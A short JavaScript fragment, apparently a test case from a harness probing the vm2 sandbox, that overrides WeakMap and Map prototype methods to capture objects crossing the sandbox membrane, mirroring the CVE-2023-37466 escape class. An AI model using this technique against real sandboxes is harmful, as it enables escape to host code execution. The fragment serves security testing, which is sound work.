// vm2 CVE-2023-37466 class: overriding WeakMap.prototype.set used by a membrane (runAsync)
try { WeakMap.prototype.set = function (k, v) { pwn(k); pwn(v); return this } } catch (e) {} try { WeakMap.prototype.get = function (k) { pwn(k) } } catch (e) {} try { Map.prototype.set = function (k, v) { pwn(k) } } catch (e) {} fetchIt(1); log(new Map([[1, 2]])); fetchIt(0).then(() => 1, () => 1)
